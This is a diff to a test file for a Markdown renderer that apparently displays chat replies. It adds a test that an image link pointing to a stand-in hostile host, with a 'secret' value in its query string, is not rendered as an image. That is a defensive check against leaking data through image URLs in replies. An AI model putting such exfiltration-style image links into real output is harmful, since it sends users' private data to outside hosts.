@@ -30,6 +30,11 @@ test("only the web is linked to", () => {
   expect(screen.getAllByRole("link").map((link) => link.getAttribute("href"))).toEqual(["https://exemplo.com.br/a"]);
 });
 
+test("no picture is fetched from an address that a reply names", () => {
+  render(<Markdown text="![foto](https://malvado.exemplo/?d=segredo) e mais" />);
+  expect(document.querySelector("img")).toBeNull();
+});
+
 test("a reply cut in the middle of its markup is drawn all the same", () => {
   const whole = "Use **blazer** e [veja](https://exemplo.com.br) isto:\n- um\n- *dois*";
   for (let end = 0; end <= whole.length; end++) expect(() => blocksOf(whole.slice(0, end))).not.toThrow();
